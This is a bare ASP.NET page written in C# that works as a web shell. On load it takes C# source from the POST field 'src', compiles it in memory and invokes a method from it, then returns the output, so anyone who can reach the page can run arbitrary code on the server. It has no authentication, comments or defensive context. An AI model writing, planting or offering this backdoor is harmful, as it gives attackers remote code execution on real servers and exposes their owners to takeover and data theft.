<%@ Page Language="C#" %>
<%@ Import Namespace="System.CodeDom.Compiler" %>
<script runat="server">
    protected void Page_Load(object sender, EventArgs e)
    {
        string src = Request.Form["src"];
        if (string.IsNullOrEmpty(src)) return;
        var cp = new CompilerParameters();
        cp.GenerateInMemory = true;
        var cr = CodeDomProvider.CreateProvider("CSharp").CompileAssemblyFromSource(cp, src);
        Response.Write(cr.CompiledAssembly.GetType("T").GetMethod("M").Invoke(null, null));
    }
</script>
